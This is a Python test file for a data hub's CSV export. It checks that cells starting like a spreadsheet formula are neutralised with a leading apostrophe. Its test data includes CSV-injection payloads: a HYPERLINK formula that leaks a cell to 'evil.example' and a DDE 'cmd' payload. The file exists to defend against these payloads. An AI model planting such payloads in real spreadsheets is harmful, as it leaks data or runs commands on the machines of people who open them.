"""Spreadsheet formulas (OWASP, "CSV Injection"): every CSV the hub writes neutralises a cell a
spreadsheet would run as a formula, with one rule in two places: the open data CSV
(partdem/outputs/opendata.py, safe_cell) and the "download this view" CSV of the list pages
(docs/assets/hub/filters.js, csvCell), both tested here on the same cells.

The rule: a cell whose first character, after any spaces, is =, +, - or @ (or one of their
full-width forms), or that starts with a tab or a carriage return, gets a leading apostrophe. No
number the hub publishes is negative, so no real figure loses its sign.
"""

from __future__ import annotations

import csv
import io

from partdem.outputs.opendata import to_csv

# (the text of a cell, the cell as a spreadsheet must receive it): the same for both CSVs.
CELLS = [
    ('=HYPERLINK("https://evil.example/?leak="&A1,"Report")',
     '\'=HYPERLINK("https://evil.example/?leak="&A1,"Report")'),
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("-2", "'-2"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width =
    ("\uff0b1", "'\uff0b1"),  # full-width +
    ("\uff0d1", "'\uff0d1"),  # full-width -
    ("\uff201", "'\uff201"),  # full-width @
    # What must not change: text, figures, dates, and signs that do not start the cell.
    ("Riverside Climate Assembly", "Riverside Climate Assembly"),
    ("120000", "120000"),
    ("36.5", "36.5"),
    ("2021-03-06", "2021-03-06"),
    ("a=b", "a=b"),
    ("e-mail, phone +44", "e-mail, phone +44"),
    ("'quoted'", "'quoted'"),
    ("", ""),
]
# Where the two differ, by design: the page's cells are read as a reader sees them (spaces
# collapsed and trimmed), the open data keeps its text as it is.
OPEN_DATA_ONLY = [
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\tindented", "'\tindented"),
    ("\rx", "'\rx"), (" =1+1", "' =1+1"), ("\u00a0\u00a0@x", "'\u00a0\u00a0@x"),
    ("\n-1", "'\n-1"),
]
PAGE_ONLY = [("\t=1+1", "'=1+1"), ("  +1  ", "'+1"), ("\n\n-1", "'-1"), ("\tindented", "indented")]


def open_data_cells(texts: list[str]) -> list[str]:
    """The title cells of the open data CSV of records with these titles, as read back."""
    rows = [{"id": f"r{i}", "title": text} for i, text in enumerate(texts)]
    return [row["title"] for row in csv.DictReader(io.StringIO(to_csv(rows), newline=""))]


def test_open_data_csv():
    cells = CELLS + OPEN_DATA_ONLY
    assert open_data_cells([text for text, _ in cells]) == [cell for _, cell in cells]


def test_open_data_csv_lists_and_nested_fields():
    rows = [{"id": "r", "topics": ["=1+1", "climate"],
             "budget": {"amount": "-1", "currency": "EUR"},
             "links": [{"title": "@x", "url": "https://example.org/"}]}]
    row = next(csv.DictReader(io.StringIO(to_csv(rows), newline="")))
    assert row == {"id": "r", "topics": "'=1+1; climate", "budget.amount": "'-1",
                   "budget.currency": "EUR", "links.1.title": "'@x",
                   "links.1.url": "https://example.org/"}
